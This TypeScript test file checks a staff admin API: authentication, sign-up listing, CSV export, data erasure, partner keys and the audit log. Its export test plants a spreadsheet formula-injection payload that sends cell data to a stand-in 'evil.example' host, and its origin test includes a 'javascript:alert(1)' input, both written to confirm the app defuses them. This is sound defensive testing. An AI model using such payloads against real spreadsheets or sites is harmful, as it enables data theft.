import assert from 'node:assert/strict';
import { createHash, createHmac, randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import {
  AdminMembershipList,
  AuditLogList,
  ErasureResult,
  PartnerKey,
  PartnerKeyList,
  PartnerKeyWithSecret,
  Problem,
  RelayCheck,
  type AuditEntry,
} from '@sinn/sdk';
import { createApp } from '../src/app.js';
import { getProblem } from './helpers/http.js';
import { startTestServer, type TestServer } from './helpers/server.js';
import { count, insertMembership, parseCsv, STAFF_TOKEN, staffFetch } from './helpers/staff.js';

// The staff API: who gets in, the sign-ups (list, export, erasure), partner keys and the audit log. Content
// writes are in admin-content.test.ts.

describe('staff API', () => {
  let server: TestServer;
  let api: string;
  before(async () => {
    server = await startTestServer({ adminToken: STAFF_TOKEN });
    api = `${server.url}/v1/admin`;
  });
  after(() => server.stop());

  /** Every newest audit entry after `afterId`, oldest first. */
  async function auditSince(afterId: number): Promise<AuditEntry[]> {
    const rows = await server.database.db.query<{ id: string }>('select id from audit_log where id > $1', [afterId]);
    const response = await staffFetch(`${api}/audit-log?limit=100`);
    const list = AuditLogList.parse(await response.json());
    assert.ok(list.items.length >= rows.length);
    return list.items.filter((entry) => entry.id > afterId).reverse();
  }
  async function lastAuditId(): Promise<number> {
    const [row] = await server.database.db.query<{ id: number }>('select coalesce(max(id), 0)::integer as id from audit_log');
    return row!.id;
  }

  describe('who gets in', () => {
    /** Every staff route the app has, read from the app itself, so a route added later is covered too. */
    function staffRoutes(): { method: string; path: string }[] {
      const app = createApp(server.deps);
      const seen = new Set<string>();
      return app.routes
        .filter((route) => route.path.startsWith('/v1/admin') && route.method !== 'ALL')
        .map((route) => ({
          method: route.method,
          path: route.path.replace(':id', randomUUID()).replace(':slug', 'ein-beispiel'),
        }))
        .filter((route) => !seen.has(`${route.method} ${route.path}`) && seen.add(`${route.method} ${route.path}`));
    }

    it('knows every staff route it should check', () => {
      const routes = staffRoutes().map((route) => `${route.method} ${route.path.replace(/[0-9a-f-]{36}/, '{id}')}`);
      for (const expected of [
        'GET /v1/admin/memberships',
        'GET /v1/admin/memberships.csv',
        'DELETE /v1/admin/memberships/{id}',
        'POST /v1/admin/erasure',
        'GET /v1/admin/mentor-requests',
        'GET /v1/admin/mentor-requests.csv',
        'POST /v1/admin/initiatives',
        'PUT /v1/admin/events/ein-beispiel',
        'DELETE /v1/admin/mentors/ein-beispiel',
        'POST /v1/admin/partner-keys',
        'GET /v1/admin/partner-keys/{id}',
        'POST /v1/admin/partner-keys/{id}/revoke',
        'POST /v1/admin/partner-keys/{id}/relay-secret',
        'GET /v1/admin/audit-log',
      ]) {
        assert.ok(routes.includes(expected), `${expected} is not among ${routes.join(', ')}`);
      }
    });

    it('answers 401 on every staff route without the token, with a wrong one, or another scheme', async () => {
      const before = await lastAuditId();
      const wrong = {
        none: undefined,
        'a wrong token': `Bearer ${STAFF_TOKEN.slice(0, -1)}x`,
        'a shorter token': `Bearer ${STAFF_TOKEN.slice(0, 10)}`,
        'the token under another scheme': `Basic ${STAFF_TOKEN}`,
        'an empty bearer': 'Bearer ',
      };
      const routes = [...staffRoutes(), { method: 'GET', path: '/v1/admin/nothing-here' }, { method: 'GET', path: '/v1/admin' }];
      for (const route of routes) {
        for (const [label, authorization] of Object.entries(wrong)) {
          const response = await fetch(`${server.url}${route.path}`, {
            method: route.method,
            headers: {
              ...(authorization ? { Authorization: authorization } : {}),
              'Content-Type': 'application/json',
            },
            body: ['POST', 'PUT'].includes(route.method) ? JSON.stringify({ email: 'a@example.org' }) : undefined,
          });
          const text = await response.text();
          assert.equal(response.status, 401, `${route.method} ${route.path} with ${label}: ${response.status} ${text.slice(0, 200)}`);
          assert.match(response.headers.get('www-authenticate') ?? '', /^Bearer realm="SINN staff API"/, `${route.method} ${route.path}`);
          assert.equal(response.headers.get('content-type'), 'application/problem+json');
          assert.equal(Problem.parse(JSON.parse(text)).status, 401);
        }
      }
      // Nothing was done: not one audit entry.
      assert.equal(await lastAuditId(), before);
    });

    it('answers 401 to the right token when ADMIN_TOKEN is unset', async () => {
      const app = createApp({ ...server.deps, config: { ...server.deps.config, adminToken: undefined, staffTokens: [] } });
      for (const route of staffRoutes()) {
        const response = await app.request(route.path, {
          method: route.method,
          headers: { Authorization: `Bearer ${STAFF_TOKEN}`, 'Content-Type': 'application/json' },
          body: ['POST', 'PUT'].includes(route.method) ? '{}' : undefined,
        });
        assert.equal(response.status, 401, `${route.method} ${route.path}`);
        assert.match(response.headers.get('www-authenticate') ?? '', /^Bearer/);
        assert.match(Problem.parse(await response.json()).detail ?? '', /The staff API is off on this server: it has no ADMIN_TOKENS/);
      }
    });

    it("names in the audit log the staff member whose own token (ADMIN_TOKENS) made a change; ADMIN_TOKEN's as staff", async () => {
      const anna = 'anna-token-0123456789abcdef';
      const ben = 'ben-token-0123456789abcdefgh';
      const app = createApp({ ...server.deps, config: { ...server.deps.config, staffTokens: [{ name: 'anna', token: anna }, { name: 'ben.k', token: ben }] } });
      const issue = (token: string, name: string) =>
        app.request('/v1/admin/partner-keys', {
          method: 'POST',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ name, origins: ['https://example.org'] }),
        });
      const before = await lastAuditId();
      for (const [token, name] of [[anna, 'Annas Partner'], [ben, 'Bens Partner'], [STAFF_TOKEN, 'Gemeinsamer Partner']] as const) {
        const response = await issue(token, name);
        assert.equal(response.status, 201, await response.clone().text());
        assert.equal(response.headers.get('cache-control'), 'no-store');
      }
      assert.deepEqual(
        (await auditSince(before)).map((entry) => [entry.action, entry.actor]),
        [
          ['partner-key.issue', 'anna'],
          ['partner-key.issue', 'ben.k'],
          ['partner-key.issue', 'staff'],
        ],
      );
      // Who did what: the log filtered by person.
      const annas = AuditLogList.parse(await (await staffFetch(`${api}/audit-log?actor=anna&limit=100`)).json());
      assert.ok(annas.items.length >= 1);
      assert.ok(annas.items.every((entry) => entry.actor === 'anna'));
      const wrong = await issue(`${anna}x`, 'Niemand');
      assert.equal(wrong.status, 401);
      assert.equal(await lastAuditId(), before + 3);
    });

    it('lets the right token in and tells caches to keep nothing', async () => {
      const response = await staffFetch(`${api}/audit-log`);
      assert.equal(response.status, 200);
      assert.equal(response.headers.get('cache-control'), 'no-store');
      AuditLogList.parse(await response.json());
    });
  });

  describe('sign-ups', () => {
    const ids: Record<string, string> = {};
    before(async () => {
      const db = server.database.db;
      ids.anna = await insertMembership(db, {
        name: 'Anna Schulze',
        email: 'anna.schulze@example.org',
        organisation: 'Tafel Görlitz e. V.',
        region: 'goerlitz',
        status: 'confirmed',
        createdAt: new Date('2026-10-05T08:00:00Z'),
      });
      ids.ben = await insertMembership(db, {
        name: 'Ben Krüger',
        email: 'ben@kiez-werkstatt.example.org',
        region: 'leipzig',
        createdAt: new Date('2026-11-02T12:00:00Z'),
      });
      ids.carla = await insertMembership(db, {
        name: 'Carla Nguyen',
        email: 'carla@example.org',
        organisation: 'Kiez-Werkstatt Leipzig',
        region: 'leipzig',
        status: 'confirmed',
        createdAt: new Date('2026-11-12T16:30:00Z'),
      });
    });

    async function list(query: string) {
      const response = await staffFetch(`${api}/memberships${query}`);
      assert.equal(response.status, 200, await response.clone().text());
      return AdminMembershipList.parse(await response.json());
    }
    const names = (page: { items: { name: string }[] }) => page.items.map((item) => item.name);

    it('lists sign-ups newest first with their consent, and no token hash', async () => {
      const response = await staffFetch(`${api}/memberships?region=goerlitz,leipzig`);
      const text = await response.text();
      const page = AdminMembershipList.parse(JSON.parse(text));
      assert.deepEqual(names(page), ['Carla Nguyen', 'Ben Krüger', 'Anna Schulze']);
      assert.equal(page.total, 3);
      const ben = page.items[1]!;
      assert.equal(ben.status, 'pending');
      assert.equal(ben.consent?.version, '2026-11');
      assert.equal(ben.consent?.origin, 'https://www.drk-dresden.example.org');
      assert.doesNotMatch(text, /tokenhash|token_hash|tokenHash/);
    });

    it('filters by status, region, text and dates', async () => {
      assert.deepEqual(names(await list('?status=confirmed&region=goerlitz,leipzig')), ['Carla Nguyen', 'Anna Schulze']);
      assert.deepEqual(names(await list('?region=leipzig')), ['Carla Nguyen', 'Ben Krüger']);
      // Name, address and organisation, any case.
      assert.deepEqual(names(await list('?q=KIEZ-werkstatt')), ['Carla Nguyen', 'Ben Krüger']);
      assert.deepEqual(names(await list('?q=tafel')), ['Anna Schulze']);
      assert.deepEqual(names(await list('?q=anna.schulze@')), ['Anna Schulze']);
      // Days are Berlin days; `to` is exclusive.
      assert.deepEqual(names(await list('?from=2026-11-01&to=2026-11-12&region=goerlitz,leipzig')), ['Ben Krüger']);
      assert.deepEqual(names(await list('?from=2026-11-12&region=goerlitz,leipzig')), ['Carla Nguyen']);
      const problem = await getProblem(`${api}/memberships?status=spam`, 400, { headers: { Authorization: `Bearer ${STAFF_TOKEN}` } });
      assert.equal(problem.errors?.[0]?.parameter, 'status');
      // A range that ends before it starts is a mistake to be told, not an empty list.
      for (const path of ['/memberships?from=2026-12-31&to=2026-01-01', '/memberships.csv?from=2026-11-12&to=2026-11-12', '/mentor-requests?from=2026-12-31&to=2026-01-01']) {
        const reversed = await getProblem(`${api}${path}`, 400, { headers: { Authorization: `Bearer ${STAFF_TOKEN}` } });
        assert.deepEqual(reversed.errors, [{ parameter: 'to', detail: 'must be after from; to is exclusive' }], path);
      }
    });

    it('pages through the list with a cursor, each sign-up once', async () => {
      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const page = await list(`?region=goerlitz,leipzig&limit=2${cursor ? `&cursor=${cursor}` : ''}`);
        seen.push(...names(page));
        cursor = page.nextCursor;
      } while (cursor);
      assert.deepEqual(seen, ['Carla Nguyen', 'Ben Krüger', 'Anna Schulze']);
    });

    it('records in the audit log that sign-ups were read, without the search text', async () => {
      const before = await lastAuditId();
      await list('?q=anna.schulze@example.org');
      const [entry] = await auditSince(before);
      assert.equal(entry?.action, 'membership.list');
      assert.doesNotMatch(JSON.stringify(entry), /anna/i);
    });
  });

  describe('CSV export', () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1;"Klick")';
    const organisation = 'Müller; Söhne & "Töchter"\r\nzweite Zeile';
    let id = '';
    before(async () => {
      id = await insertMembership(server.database.db, {
        name: evil,
        email: 'evil@example.org',
        organisation,
        region: 'vogtlandkreis',
        createdAt: new Date('2026-11-14T10:00:00Z'),
      });
      for (const [index, name] of ['+49 351 1234', '-2+3', '@SUM(1)', '\tTab', '\rWagenrücklauf'].entries()) {
        await insertMembership(server.database.db, {
          name,
          email: `formel${index}@example.org`,
          region: 'vogtlandkreis',
          createdAt: new Date(`2026-11-0${index + 1}T10:00:00Z`),
        });
      }
    });

    async function exportCsv(query: string) {
      const response = await staffFetch(`${api}/memberships.csv${query}`);
      assert.equal(response.status, 200);
      assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
      assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="sinn-anmeldungen-2026-11-15\.csv"$/);
      assert.equal(response.headers.get('cache-control'), 'no-store');
      const bytes = new Uint8Array(await response.arrayBuffer());
      assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'starts with the UTF-8 byte order mark');
      return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    }

    it('defuses formulas and keeps quotes, semicolons and line breaks in their cells', async () => {
      const rows = parseCsv(await exportCsv('?region=vogtlandkreis'));
      const [header, ...data] = rows;
      assert.equal(header?.[0], 'ID');
      assert.ok(header?.includes('E-Mail'));
      assert.ok(data.every((row) => row.length === header!.length), 'every row has as many cells as the header');
      const nameAt = header!.indexOf('Name');
      const row = data.find((cells) => cells[0] === id)!;
      assert.equal(row[nameAt], `'${evil}`);
      assert.equal(row[header!.indexOf('Organisation')], organisation);
      assert.equal(row[header!.indexOf('E-Mail')], 'evil@example.org');
      assert.equal(row[header!.indexOf('Interessen')], 'bildung, inklusion');
      assert.equal(row[header!.indexOf('Angemeldet (Berlin)')], '2026-11-14 11:00:00');
      const statuses = new Set(data.map((cells) => cells[header!.indexOf('Status')]));
      assert.ok(statuses.has('unbestätigt') && [...statuses].every((status) => status === 'bestätigt' || status === 'unbestätigt'), [...statuses].join(', '));
      assert.deepEqual(
        data.map((cells) => cells[nameAt]).filter((name) => name !== `'${evil}`),
        ["'\rWagenrücklauf", "'\tTab", "'@SUM(1)", "'-2+3", "'+49 351 1234"],
      );
      // No cell of the file starts a formula.
      for (const cells of data) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    });

    it('takes the list filters and writes an audit entry with the number of rows', async () => {
      const before = await lastAuditId();
      const rows = parseCsv(await exportCsv('?region=vogtlandkreis&from=2026-11-03'));
      assert.equal(rows.length, 1 + 4);
      const [entry] = await auditSince(before);
      assert.equal(entry?.action, 'membership.export');
      assert.equal(entry?.details.count, 4);
    });
  });

  describe('erasure', () => {
    it('erases the sign-up of an address with its consent log and mails, and logs no address', async () => {
      const db = server.database.db;
      const first = await insertMembership(db, { name: 'Erika Muster', email: 'Erika.Muster@example.org', status: 'confirmed' });
      // An address is stored once; its consent log keeps each time it signed up, and its mails each one sent.
      await db.query(
        `insert into consent_log (membership_id, consented_at, text_version, text_hash)
         select $1, now(), version, hash from consent_texts where purpose = 'membership' and version = '2026-11'`,
        [first],
      );
      const other = await insertMembership(db, { name: 'Otto Normal', email: 'otto@example.org' });
      await db.query(`insert into outbox (kind, recipient, subject, body) values ('reminder', 'ERIKA.MUSTER@example.org', 'x', 'y')`);
      const before = await lastAuditId();

      const response = await staffFetch(`${api}/erasure`, { method: 'POST', body: { email: ' erika.muster@EXAMPLE.org ' } });
      assert.equal(response.status, 200);
      assert.deepEqual(ErasureResult.parse(await response.json()), { memberships: 1, consentLog: 2, outbox: 2, mentorRequests: 0, surveyResponses: 0 });

      assert.equal(await count(db, 'memberships', 'id = $1', [first]), 0);
      assert.equal(await count(db, 'consent_log', 'membership_id = $1', [first]), 0);
      assert.equal(await count(db, 'outbox', "lower(recipient) = 'erika.muster@example.org'"), 0);
      // Someone else's sign-up stays as it was.
      assert.equal(await count(db, 'memberships', 'id = $1', [other]), 1);
      assert.equal(await count(db, 'consent_log', 'membership_id = $1', [other]), 1);
      assert.equal(await count(db, 'outbox', 'membership_id = $1', [other]), 1);

      const entries = await auditSince(before);
      assert.deepEqual(
        entries.map((entry) => entry.action),
        ['membership.erase'],
      );
      assert.deepEqual(entries[0]!.details, { memberships: 1, consentLog: 2, outbox: 2, mentorRequests: 0, surveyResponses: 0 });
      const stored = await db.query('select * from audit_log where id > $1', [before]);
      assert.doesNotMatch(JSON.stringify(stored), /erika|muster/i);
    });

    it('answers an address nobody signed up with as nothing erased', async () => {
      const response = await staffFetch(`${api}/erasure`, { method: 'POST', body: { email: 'niemand@example.org' } });
      assert.deepEqual(ErasureResult.parse(await response.json()), { memberships: 0, consentLog: 0, outbox: 0, mentorRequests: 0, surveyResponses: 0 });
    });

    it('refuses an erasure request that names no address', async () => {
      const response = await staffFetch(`${api}/erasure`, { method: 'POST', body: { email: 'keine adresse', name: 'x' } });
      assert.equal(response.status, 422);
      const problem = Problem.parse(await response.json());
      assert.deepEqual(problem.errors?.map((error) => error.pointer).sort(), ['/email', '/name']);
    });

    it('deletes one sign-up by its id, then knows it no more', async () => {
      const db = server.database.db;
      const id = await insertMembership(db, { name: 'Paul Einzeln', email: 'paul@example.org' });
      const response = await staffFetch(`${api}/memberships/${id}`, { method: 'DELETE' });
      assert.equal(response.status, 200);
      assert.deepEqual(ErasureResult.parse(await response.json()), { memberships: 1, consentLog: 1, outbox: 1, mentorRequests: 0, surveyResponses: 0 });
      assert.equal(await count(db, 'memberships', 'id = $1', [id]), 0);
      assert.equal((await staffFetch(`${api}/memberships/${id}`, { method: 'DELETE' })).status, 404);
      assert.equal((await staffFetch(`${api}/memberships/not-an-id`, { method: 'DELETE' })).status, 404);
    });
  });

  describe('partner keys', () => {
    it('issues a key for the origins given, lists it, changes its origins and revokes it', async () => {
      const issued = await staffFetch(`${api}/partner-keys`, {
        method: 'POST',
        body: { name: 'DRK Kreisverband Bautzen', origins: ['https://www.drk-bautzen.example.org', 'http://localhost:8080'] },
      });
      assert.equal(issued.status, 201);
      const key = PartnerKey.parse(await issued.json());
      assert.match(key.key, /^pk_[A-Za-z0-9_-]{32}$/);
      assert.equal(issued.headers.get('location'), `/v1/admin/partner-keys/${key.id}`);
      assert.deepEqual(key.origins, ['https://www.drk-bautzen.example.org', 'http://localhost:8080']);
      assert.equal(key.revokedAt, null);

      const other = PartnerKey.parse(
        await (await staffFetch(`${api}/partner-keys`, { method: 'POST', body: { name: 'Impact Hub Leipzig', origins: ['https://leipzig.impacthub.example'] } })).json(),
      );
      assert.notEqual(other.key, key.key);

      const list = PartnerKeyList.parse(await (await staffFetch(`${api}/partner-keys`)).json());
      assert.deepEqual(
        list.items.filter((item) => [key.id, other.id].includes(item.id)).map((item) => item.name).sort(),
        ['DRK Kreisverband Bautzen', 'Impact Hub Leipzig'],
      );

      const updated = await staffFetch(`${api}/partner-keys/${key.id}`, {
        method: 'PUT',
        body: { name: 'DRK Kreisverband Bautzen', origins: ['https://drk-bautzen.example.org'] },
      });
      assert.equal(updated.status, 200);
      const changed = PartnerKey.parse(await updated.json());
      assert.equal(changed.key, key.key, 'the key itself stays');
      assert.deepEqual(changed.origins, ['https://drk-bautzen.example.org']);

      const revoked = await staffFetch(`${api}/partner-keys/${key.id}/revoke`, { method: 'POST' });
      assert.equal(revoked.status, 200);
      assert.equal(PartnerKey.parse(await revoked.json()).revokedAt, '2026-11-15T10:00:00+01:00');
      const [row] = await server.database.db.query<{ revoked: boolean }>('select revoked_at is not null as revoked from partner_keys where id = $1', [key.id]);
      assert.equal(row?.revoked, true);
      assert.equal((await staffFetch(`${api}/partner-keys/${key.id}/revoke`, { method: 'POST' })).status, 409);
      assert.equal((await staffFetch(`${api}/partner-keys/${randomUUID()}/revoke`, { method: 'POST' })).status, 404);
      // The other key is untouched.
      const [otherRow] = await server.database.db.query<{ revoked: boolean }>('select revoked_at is not null as revoked from partner_keys where id = $1', [other.id]);
      assert.equal(otherRow?.revoked, false);
    });

    it('issues a key with its relay secret, shows the secret once, and rotates it: the one before stops holding at once', async () => {
      const origin = 'https://www.caritas-bautzen.example.org';
      /** What a relaying site learns from POST /v1/relay-check when it signs with `secret`. */
      const signatureWith = async (key: string, secret: string) => {
        const [idempotencyKey, visitor, timestamp] = [randomUUID(), 'ab'.repeat(32), String(Math.floor(Date.parse('2026-11-15T09:00:00Z') / 1000))];
        const canonical = ['sinn-relay-v1', 'POST', '/v1/relay-check', createHash('sha256').update('').digest('hex'), idempotencyKey, visitor, timestamp].join('\n');
        const response = await fetch(`${server.url}/v1/relay-check`, {
          method: 'POST',
          headers: {
            'X-Sinn-Partner-Key': key,
            Origin: origin,
            'Idempotency-Key': idempotencyKey,
            'X-Sinn-Relay-Visitor': visitor,
            'X-Sinn-Relay-Timestamp': timestamp,
            'X-Sinn-Relay-Signature': createHmac('sha256', secret).update(canonical).digest('hex'),
          },
        });
        return RelayCheck.parse(await response.json()).signature;
      };

      const before = await lastAuditId();
      const issued = await staffFetch(`${api}/partner-keys`, { method: 'POST', body: { name: 'Caritas Bautzen', origins: [origin] } });
      assert.equal(issued.status, 201);
      const key = PartnerKeyWithSecret.parse(await issued.json());
      assert.match(key.relaySecret, /^sk_[A-Za-z0-9_-]{43}$/);
      assert.equal(key.relaySecretIssuedAt, '2026-11-15T10:00:00+01:00');
      assert.equal(await signatureWith(key.key, key.relaySecret), 'verified');

      // Nothing after the answer that made it shows the secret: not the key, not the list, not the audit log.
      const one = await staffFetch(`${api}/partner-keys/${key.id}`);
      const shown = await one.text();
      assert.ok(!shown.includes(key.relaySecret) && !shown.includes('relaySecret"'), shown);
      assert.equal(issued.headers.get('etag'), one.headers.get('etag'), 'the tag is the key’s as GET shows it');
      assert.ok(!(await (await staffFetch(`${api}/partner-keys`)).text()).includes(key.relaySecret));

      // A stale If-Match rotates nothing.
      const etag = one.headers.get('etag')!;
      await staffFetch(`${api}/partner-keys/${key.id}`, { method: 'PUT', body: { name: 'Caritas Bautzen e. V.', origins: [origin] } });
      const stale = await staffFetch(`${api}/partner-keys/${key.id}/relay-secret`, { method: 'POST', headers: { 'If-Match': etag } });
      assert.equal(stale.status, 412);
      assert.equal(await signatureWith(key.key, key.relaySecret), 'verified');

      const rotated = await staffFetch(`${api}/partner-keys/${key.id}/relay-secret`, { method: 'POST' });
      assert.equal(rotated.status, 200);
      const next = PartnerKeyWithSecret.parse(await rotated.json());
      assert.notEqual(next.relaySecret, key.relaySecret);
      assert.equal(next.key, key.key, 'the partner key itself stays');
      assert.equal(await signatureWith(key.key, key.relaySecret), 'wrong');
      assert.equal(await signatureWith(key.key, next.relaySecret), 'verified');
      assert.equal(rotated.headers.get('etag'), (await staffFetch(`${api}/partner-keys/${key.id}`)).headers.get('etag'));

      const entries = await auditSince(before);
      assert.deepEqual(entries.map((entry) => entry.action), ['partner-key.issue', 'partner-key.update', 'partner-key.relay-secret']);
      assert.equal(entries[2]!.target, key.id);
      assert.doesNotMatch(JSON.stringify(entries), /sk_/);

      assert.equal((await staffFetch(`${api}/partner-keys/${randomUUID()}/relay-secret`, { method: 'POST' })).status, 404);
      await staffFetch(`${api}/partner-keys/${key.id}/revoke`, { method: 'POST' });
      const revoked = await staffFetch(`${api}/partner-keys/${key.id}/relay-secret`, { method: 'POST' });
      assert.equal(revoked.status, 409);
      assert.equal(await signatureWith(key.key, next.relaySecret), 'verified', 'a refused rotation changes nothing');
    });

    it('accepts only origins: scheme, host and port, no path, no default port', async () => {
      const response = await staffFetch(`${api}/partner-keys`, {
        method: 'POST',
        body: {
          name: 'Caritas Chemnitz',
          origins: [
            'https://caritas-chemnitz.example.org',
            'https://caritas-chemnitz.example.org/',
            'https://caritas-chemnitz.example.org/seite',
            'javascript:alert(1)',
            'https://caritas-chemnitz.example.org:443',
            '*',
            'https://Caritas.example.org',
          ],
        },
      });
      assert.equal(response.status, 422);
      const problem = Problem.parse(await response.json());
      assert.deepEqual([...new Set(problem.errors?.map((error) => error.pointer))], [
        '/origins/1',
        '/origins/2',
        '/origins/3',
        '/origins/4',
        '/origins/5',
        '/origins/6',
      ]);
      // One message each, the one that fits the mistake.
      const said = (index: number) => problem.errors?.filter((error) => error.pointer === `/origins/${index}`).map((error) => error.detail);
      assert.deepEqual(said(1), ['an origin like https://www.example.org: lower case, no path, no slash at the end']);
      assert.deepEqual(said(4), ['an origin like https://www.example.org, without the default port']);
      assert.equal((await staffFetch(`${api}/partner-keys`, { method: 'POST', body: { name: 'Ohne', origins: [] } })).status, 422);
    });
  });

  describe('audit log', () => {
    it('lists every staff action newest first, page by page, without personal data', async () => {
      const db = server.database.db;
      const before = await lastAuditId();
      const id = await insertMembership(db, { name: 'Greta Gans', email: 'greta@example.org' });
      const key = PartnerKey.parse(
        await (await staffFetch(`${api}/partner-keys`, { method: 'POST', body: { name: 'Diakonie Meißen', origins: ['https://diakonie-meissen.example.org'] } })).json(),
      );
      await staffFetch(`${api}/partner-keys/${key.id}`, { method: 'PUT', body: { name: 'Diakonie Meißen', origins: ['https://www.diakonie-meissen.example.org'] } });
      await staffFetch(`${api}/partner-keys/${key.id}/revoke`, { method: 'POST' });
      await staffFetch(`${api}/memberships?q=greta`);
      await staffFetch(`${api}/memberships.csv?q=greta`);
      await staffFetch(`${api}/memberships/${id}`, { method: 'DELETE' });
      await staffFetch(`${api}/erasure`, { method: 'POST', body: { email: 'greta@example.org' } });
      // A refused request changes nothing and leaves no entry.
      await staffFetch(`${api}/partner-keys`, { method: 'POST', body: { name: 'x', origins: ['nope'] } });

      const seen: AuditEntry[] = [];
      let cursor: string | null = null;
      do {
        const response = await staffFetch(`${api}/audit-log?limit=3${cursor ? `&cursor=${cursor}` : ''}`);
        const page = AuditLogList.parse(await response.json());
        seen.push(...page.items);
        cursor = page.nextCursor;
      } while (cursor && seen.at(-1)!.id > before + 1);
      const mine = seen.filter((entry) => entry.id > before);
      assert.deepEqual(
        mine.map((entry) => entry.action),
        [
          'membership.erase',
          'membership.delete',
          'membership.export',
          'membership.list',
          'partner-key.revoke',
          'partner-key.update',
          'partner-key.issue',
        ],
      );
      assert.ok(mine.every((entry) => entry.actor === 'staff' && entry.at === '2026-11-15T10:00:00+01:00'));
      assert.equal(mine.find((entry) => entry.action === 'membership.delete')?.target, id);
      assert.equal(mine.find((entry) => entry.action === 'partner-key.revoke')?.target, key.id);
      assert.doesNotMatch(JSON.stringify(mine), /greta/i);

      const filtered = AuditLogList.parse(await (await staffFetch(`${api}/audit-log?action=partner-key.revoke,membership.erase&limit=100`)).json());
      assert.ok(filtered.items.length >= 2);
      assert.ok(filtered.items.every((entry) => ['partner-key.revoke', 'membership.erase'].includes(entry.action)));
      // A mistyped action is told, with the ones the log knows, not answered with an empty list.
      const mistyped = await getProblem(`${api}/audit-log?action=partner-key.revoked`, 400, { headers: { Authorization: `Bearer ${STAFF_TOKEN}` } });
      assert.equal(mistyped.errors?.[0]?.parameter, 'action');
      assert.ok(mistyped.errors?.[0]?.allowed?.includes('partner-key.revoke'));
    });
  });
});
